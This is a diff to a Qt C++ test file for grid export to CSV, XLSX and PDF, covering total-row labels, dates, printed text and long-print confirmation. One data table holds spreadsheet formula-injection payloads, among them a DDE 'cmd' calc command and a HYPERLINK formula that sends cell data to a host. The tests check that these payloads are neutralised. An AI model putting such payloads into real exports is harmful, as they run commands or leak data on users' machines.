@@ -25,6 +25,7 @@
 #include <QProcess>
 #include <QProgressDialog>
 #include <QPushButton>
+#include <QRegularExpression>
 #include <QStandardPaths>
 #include <QTableView>
 #include <QTest>
@@ -97,6 +98,14 @@ int pdfPages(const QString& pdf) {
     return int(f.readAll().count("/Type /Page\n"));
 }
 
+// The text of a PDF as a reader takes it out.
+QString pdfText(const QString& pdf) {
+    QProcess p;
+    p.start(QStandardPaths::findExecutable("pdftotext"), {pdf, "-"});
+    p.waitForFinished();
+    return QString::fromUtf8(p.readAllStandardOutput());
+}
+
 // Presses "取消" of the export progress as soon as it shows.
 void cancelProgressWhenShown(QObject* context) {
     auto* t = new QTimer(context);
@@ -144,6 +153,12 @@ private slots:
     void init() { Session::setUserCode("abc"); }
     void stockQueryToExcel();
     void csvByteForByte();
+    void formulaTextsStayText_data();
+    void formulaTextsStayText();
+    void xlsxDatesAndTotalLabel();
+    void printedTextsAreWhole_data();
+    void printedTextsAreWhole();
+    void longPrintAsksFirst();
     void largeResultStreamsAndCancelLeavesNoFile();
     void pdfPagesAndPrintPreview();
     void groupSummaryWithItsTotalRow();
@@ -226,7 +241,7 @@ void TstExport::csvByteForByte() {
                                 "项目代码,名称,数量,价格\r\n"
                                 "007,\"衬衫, \"\"长袖\"\"\",1234.5,12.00\r\n"
                                 "I002,\"两行\n文字\",-2.25,\r\n"
-                                ",,1232.25,\r\n";
+                                "合计,,1232.25,\r\n";
     QCOMPARE(f.readAll(), expected);
     QVERIFY(seam.shown.isEmpty());
     // Overwriting a file that is there: replaced whole.
@@ -234,7 +249,7 @@ void TstExport::csvByteForByte() {
     QVERIFY(GridExport::of(w.grid)->exportTo(GridExport::Format::Csv, path));
     f.close();
     QVERIFY(f.open(QIODevice::ReadOnly));
-    QCOMPARE(f.readAll(), QByteArray("\xEF\xBB\xBF项目代码,名称,数量,价格\r\nX,,1,\r\n,,1,\r\n"));
+    QCOMPARE(f.readAll(), QByteArray("\xEF\xBB\xBF项目代码,名称,数量,价格\r\nX,,1,\r\n合计,,1,\r\n"));
 }
 
 void TstExport::largeResultStreamsAndCancelLeavesNoFile() {
@@ -253,7 +268,7 @@ void TstExport::largeResultStreamsAndCancelLeavesNoFile() {
     QCOMPARE(lines.size(), n + 3); // captions, rows, footer, and the empty rest after the last line end
     QCOMPARE(lines[1], QByteArray("I000001,1\r"));
     QCOMPARE(lines[n], QByteArray("I005000,5000\r"));
-    QCOMPARE(lines[n + 1], QByteArray(",12502500\r"));
+    QCOMPARE(lines[n + 1], QByteArray("合计,12502500\r"));
     QCOMPARE(w.grid->rowCount(), GridModel::FetchChunk); // the grid itself read no more
 
     // A numbered result read by its key, and the rows on screen as edited: the same lines.
@@ -358,6 +373,143 @@ void TstExport::groupSummaryWithItsTotalRow() {
     QCOMPARE(cells["B6"].text.toDouble(), 11.0);
     QVERIFY(unzipped(xlsx, "xl/styles.xml").contains("&quot;合计：&quot;#.##"));
     g->dropColumns();
+}
+
+void TstExport::formulaTextsStayText_data() {
+    QTest::addColumn<QString>("name");
+    QTest::addColumn<QByteArray>("csvLine");
+    QTest::newRow("equals") << "=1+1" << QByteArray("I1,'=1+1,-2");
+    QTest::newRow("command") << "=cmd|' /C calc'!A0" << QByteArray("I1,'=cmd|' /C calc'!A0,-2");
+    QTest::newRow("link") << "=HYPERLINK(\"http://x/\"&A5,\"点击\")"
+                          << QByteArray("I1,\"'=HYPERLINK(\"\"http://x/\"\"&A5,\"\"点击\"\")\",-2");
+    QTest::newRow("plus") << "+1" << QByteArray("I1,'+1,-2");
+    QTest::newRow("minus") << "-1+2" << QByteArray("I1,'-1+2,-2");
+    QTest::newRow("at") << "@SUM(A1)" << QByteArray("I1,'@SUM(A1),-2");
+    QTest::newRow("tab") << "\t=1" << QByteArray("I1,'\t=1,-2");
+    QTest::newRow("carriage return") << "\r=1" << QByteArray("I1,\"'\r=1\",-2");
+    QTest::newRow("plain") << "衬衫=1" << QByteArray("I1,衬衫=1,-2");
+}
+
+// A text a spreadsheet would run as a formula: an apostrophe in front in the CSV, a string in the
+// workbook; negative numbers stay numbers.
+void TstExport::formulaTextsStayText() {
+    QFETCH(QString, name);
+    QFETCH(QByteArray, csvLine);
+    TestDb db;
+    ScriptedSeam seam;
+    Window w;
+    w.grid->setColumns({{"item_code", "项目代码", 80}, {"item_name", "名称", 120}, {"qty", "数量", 70}});
+    w.grid->showRows({"item_code", "item_name", "qty"}, {{"I1", name, -2}});
+    const QString csv = QDir(db.dir()).filePath("f.csv"), xlsx = QDir(db.dir()).filePath("f.xlsx");
+    QVERIFY(GridExport::of(w.grid)->exportTo(GridExport::Format::Csv, csv));
+    QFile f(csv);
+    QVERIFY(f.open(QIODevice::ReadOnly));
+    QCOMPARE(f.readAll().split('\n').value(1).chopped(1), csvLine);
+    QVERIFY(GridExport::of(w.grid)->exportTo(GridExport::Format::Xlsx, xlsx));
+    const auto cells = sheetCells(xlsx);
+    QCOMPARE(cells["B5"].type, QString("inlineStr"));
+    QCOMPARE(QString(cells["B5"].text).replace("_x000D_", "\r"), name); // the workbook's escape of a carriage return
+    QCOMPARE(cells["C5"].type, QString("n"));
+}
+
+// Dates are dates in the workbook, shown as the program shows them; the footer row is named.
+void TstExport::xlsxDatesAndTotalLabel() {
+    TestDb db;
+    ScriptedSeam seam;
+    Window w;
+    w.grid->setColumns({{"procure_date", "入库日期", 80},
+                        {"bill_no", "单据号", 80},
+                        {"qty", "数量", 70, "#,##0.##", false, false, true, "#,##0.##"}});
+    w.grid->showRows({"procure_date", "bill_no", "qty"}, {{"2026/12/09", "2026/13/45", 3}});
+    const QString xlsx = QDir(db.dir()).filePath("d.xlsx"), pdf = QDir(db.dir()).filePath("d.pdf");
+    QVERIFY(GridExport::of(w.grid)->exportTo(GridExport::Format::Xlsx, xlsx));
+    const auto cells = sheetCells(xlsx);
+    QCOMPARE(cells["A5"].type, QString("n"));
+    QCOMPARE(cells["A5"].text.toLongLong(), QDate(1899, 12, 30).daysTo(QDate(2026, 12, 9)));
+    QVERIFY(unzipped(xlsx, "xl/styles.xml").contains("formatCode=\"yyyy/mm/dd\""));
+    QCOMPARE(cells["B5"].text, QString("2026/13/45")); // not a date: a text
+    QCOMPARE(cells["A6"].text, QString("合计"));
+    QCOMPARE(cells["C6"].text.toDouble(), 3.0);
+    QVERIFY(GridExport::of(w.grid)->exportTo(GridExport::Format::Pdf, pdf));
+    QVERIFY(pdfText(pdf).contains("合计"));
+}
+
+void TstExport::printedTextsAreWhole_data() {
+    QTest::addColumn<QStringList>("captions");
+    QTest::addColumn<QStringList>("values");
+    QTest::addColumn<int>("widthOnScreen");
+    QTest::addColumn<bool>("pagesAcross");
+    // The stock-in record query, as narrow on screen as its window made them, one column empty.
+    QTest::newRow("record query")
+        << QStringList{"项目代码", "项目名称", "型号", "规格", "数量", "价格", "属性", "尺寸", "等级", "大类",
+                       "小类", "单位名称", "供应商名称", "单据号", "入库类型名称", "仓库名称", "入库日期"}
+        << QStringList{"I000123", "男式纯棉短袖衬衫加厚款", "XL-2026A", "", "1,234.5", "88.00", "藏蓝色", "XXL",
+                       "一等品", "上衣", "衬衫", "件", "上海某某服装辅料有限公司", "P000012345", "采购入库",
+                       "一号成品仓库", "2026/12/09"}
+        << 40 << false;
+    QStringList wide, values;
+    for (int i = 0; i < 40; ++i)
+        wide << QString("供应商名称%1").arg(i), values << QString("上海某某服装辅料有限公司%1").arg(i);
+    QTest::newRow("wider than a page") << wide << values << 100 << true; // continues on pages across
+}
+
+// Every caption, cell and sum is printed whole, whatever the widths on screen were.
+void TstExport::printedTextsAreWhole() {
+    QFETCH(QStringList, captions);
+    QFETCH(QStringList, values);
+    QFETCH(int, widthOnScreen);
+    QFETCH(bool, pagesAcross);
+    TestDb db;
+    ScriptedSeam seam;
+    Window w;
+    QList<GridColumn> cols;
+    QStringList fields;
+    QVector<QVariant> row;
+    for (int i = 0; i < captions.size(); ++i) {
+        fields << QString("f%1").arg(i);
+        cols.append({fields.last(), captions[i], widthOnScreen});
+        row << (values[i].isEmpty() ? QVariant() : QVariant(values[i]));
+    }
+    cols.append({"qty", "数量", 20, "合计：#.##", false, false, true, "#,##0.##"});
+    fields << "qty";
+    row << 169000;
+    w.grid->setColumns(cols);
+    w.grid->showRows(fields, {row, row});
+    const QString pdf = QDir(db.dir()).filePath("p.pdf");
+    QVERIFY(GridExport::of(w.grid)->exportTo(GridExport::Format::Pdf, pdf));
+    if (qEnvironmentVariableIsSet("YC_KEEP_PDF")) QFile::copy(pdf, qEnvironmentVariable("YC_KEEP_PDF"));
+    // The reader gives some ideographs as their radicals' forms: compared in compatibility form.
+    const auto kc = [](const QString& t) { return t.normalized(QString::NormalizationForm_KC); };
+    QString text = kc(pdfText(pdf));
+    text.remove(QRegularExpression("\\s"));
+    for (int i = 0; i < captions.size(); ++i) {
+        QVERIFY2(text.contains(kc(captions[i])), qPrintable(captions[i]));
+        QVERIFY2(text.count(kc(values[i])) >= 2, qPrintable(values[i]));
+    }
+    QVERIFY(text.contains(kc("合计：338000")));
+    QCOMPARE(pdfPages(pdf) > 1, pagesAcross);
+}
+
+// A print or PDF of more than 500 pages is asked for first; No prints nothing.
+void TstExport::longPrintAsksFirst() {
+    TestDb db;
+    ScriptedSeam seam;
+    fillRows(1100);
+    Window w;
+    w.open();
+    QPrinter small(QPrinter::HighResolution);
+    small.setOutputFormat(QPrinter::PdfFormat);
+    small.setOutputFileName(QDir(db.dir()).filePath("long.pdf"));
+    small.setPageSize(QPageSize(QSizeF(90, 45), QPageSize::Millimeter)); // two rows a page
+    small.setPageMargins(QMarginsF(2, 2, 2, 2), QPageLayout::Millimeter);
+    QVERIFY(!GridExport::of(w.grid)->printTo(&small));
+    QCOMPARE(seam.kinds, QStringList{"confirm"});
+    QVERIFY(!QFile::exists(small.outputFileName()));
+    seam.reset();
+    seam.answers = {true};
+    QVERIFY(GridExport::of(w.grid)->printTo(&small));
+    QCOMPARE(seam.kinds, QStringList{"confirm"});
+    QVERIFY(pdfPages(small.outputFileName()) > 500);
 }
 
 QTEST_MAIN(TstExport)
